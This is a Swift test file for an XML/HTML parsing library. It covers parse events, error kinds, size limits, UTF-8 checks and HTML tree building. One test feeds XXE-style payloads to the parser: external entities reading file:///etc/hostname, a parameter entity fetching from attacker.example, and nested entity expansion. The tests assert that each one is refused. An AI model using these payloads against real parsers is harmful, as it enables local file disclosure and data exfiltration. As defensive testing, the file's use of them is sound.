import LibXML
import Testing

/// Writes down what a parse tells.
private final class Recorder: XMLHandler {
  var events: [String] = []

  func startElement(_ name: String, attributes: [XMLAttribute]) {
    let list = attributes.map { " \($0.name)=[\(String(decoding: $0.value, as: UTF8.self))]" }
    events.append("<\(name)\(list.joined())>")
  }

  func endElement(_ name: String) {
    events.append("</\(name)>")
  }

  func text(_ bytes: UnsafeBufferPointer<UInt8>) {
    events.append(String(decoding: bytes, as: UTF8.self))
  }
}

private func events(of document: String) throws(XMLFault) -> [String] {
  let recorder = Recorder()
  try XMLParser.parse(Array(document.utf8), telling: recorder)
  return recorder.events
}

private func fault(of document: String) -> XMLFault? {
  do throws(XMLFault) {
    _ = try events(of: document)
    return nil
  } catch {
    return error
  }
}

@Test func `elements, attributes and text are told in document order`() throws {
  let told = try events(of: "<p b=\"1\" a='x &amp; &#x79; &amp;#38;'>t<br/>&lt;é</p>")
  #expect(told == ["<p b=[1] a=[x & y &#38;]>", "t", "<br>", "</br>", "<", "é", "</p>"])
}

@Test(arguments: [
  ("<a><b></a></b>", XMLFault.Kind.endTagMismatch(open: "b", closing: "a")),
  ("<a>", .elementNotClosed),
  ("<a b=\"1\" b=\"2\"/>", .other("Attribute b redefined")),
  ("<a>&foo;</a>", .other("Entity 'foo' not defined")),
  ("<a/>b", .other("Extra content at the end of the document")),
])
func `the first fault ends the parse`(document: String, kind: XMLFault.Kind) {
  #expect(fault(of: document)?.kind == kind)
}

@Test func `a fault tells how many bytes were read`() {
  #expect(fault(of: "<a>\n<b>\n</a>")?.offset == 12)
}

@Test(arguments: [
  "<!DOCTYPE a SYSTEM \"file:///etc/hostname\"><a/>",
  "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/hostname\">]><a>&b;</a>",
  "<!DOCTYPE a [<!ENTITY b \"bbbb\"><!ENTITY c \"&b;&b;&b;\">]><a>&c;</a>",
  "<!DOCTYPE a [<!ENTITY % b SYSTEM \"http://attacker.example/\"> %b;]><a/>",
  "<?php a ?><a/>",
])
func `document types, entities and processing instructions are refused`(document: String) {
  #expect(fault(of: document)?.kind == .declarationRefused)
}

@Test func `deep documents are refused`() {
  let deep = String(repeating: "<a>", count: 5000) + String(repeating: "</a>", count: 5000)
  #expect(fault(of: deep)?.kind == .tooLarge)
}

@Test func `large documents are refused`() {
  let large = "<a>" + String(repeating: "x", count: XMLParser.largestDocument) + "</a>"
  #expect(fault(of: large)?.kind == .tooLarge)
}

@Test(arguments: ["", " ", "a", "<", "<a", "<a b", "<a b=", "</a>", "\u{0}", "<a>\u{1}</a>", "<1/>"])
func `broken documents have a fault`(document: String) {
  #expect(fault(of: document) != nil)
}

@Test func `bytes that are not UTF-8 have a fault`() {
  let recorder = Recorder()
  #expect(throws: XMLFault.self) {
    try XMLParser.parse([0x3C, 0x61, 0x3E, 0xFF, 0x3C, 0x2F, 0x61, 0x3E], telling: recorder)
  }
}

@Test func `entity names of HTML 4 are known`() {
  #expect(HTMLNames.character(forEntity: "nbsp") == "\u{A0}")
  #expect(HTMLNames.character(forEntity: "hellip") == "…")
  #expect(HTMLNames.character(forEntity: "foo") == nil)
}

@Test func `a page becomes a tree`() throws {
  let tree = try #require(
    HTMLTree.parse(Array("<html><body><p id=a>1 &lt; 2<br></p><!--c--></body></html>".utf8)))
  let paragraph = HTMLNode.element(
    name: "p", attributes: [XMLAttribute(name: "id", value: Array("a".utf8))],
    children: [.text("1 < 2"), .element(name: "br", attributes: [], children: [])])
  let body = HTMLNode.element(name: "body", attributes: [], children: [paragraph, .comment("c")])
  #expect(tree.last == .element(name: "html", attributes: [], children: [body]))
}

@Test func `an empty page has no tree`() {
  #expect(HTMLTree.parse([]) == nil)
}
